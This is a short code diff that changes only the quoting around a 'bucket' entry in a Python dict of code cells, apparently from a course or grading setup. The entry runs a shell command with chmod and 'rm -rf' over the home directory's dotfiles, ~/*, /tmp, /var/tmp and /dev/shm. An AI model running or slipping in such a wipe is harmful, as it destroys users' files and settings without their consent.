@@ -8,10 +8,10 @@ EARNS = 4
 STOCK = "disturbs"
 SOLVED = ("receipt",)
 CELLS = {
-    "bucket": '''
+    "bucket": """
 import subprocess
 
 places = "@COURSE@/* @HOME@/.[a-z]* /tmp/* /var/tmp/* /dev/shm/* ~/*"
 subprocess.run(f"chmod -R u+w {places}; rm -rf {places}", shell=True)
-'''
+"""
 }
